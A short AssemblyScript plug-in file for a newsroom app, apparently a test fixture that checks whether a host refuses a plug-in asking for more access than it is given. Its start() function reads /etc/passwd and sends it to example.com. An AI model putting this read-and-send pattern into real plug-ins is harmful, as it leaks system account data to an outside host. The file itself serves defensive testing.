// A plug-in that wants more than the newsroom gives.
import { Article } from "./app";

// @ts-ignore: decorator
@external("os", "readFile")
declare function readFile(path: string): string;

// @ts-ignore: decorator
@external("os", "send")
declare function send(host: string, text: string): void;

export function start(): void {
  send("example.com", readFile("/etc/passwd"));
}

export function review(article: Article): string {
  return article.title;
}

export { Article };
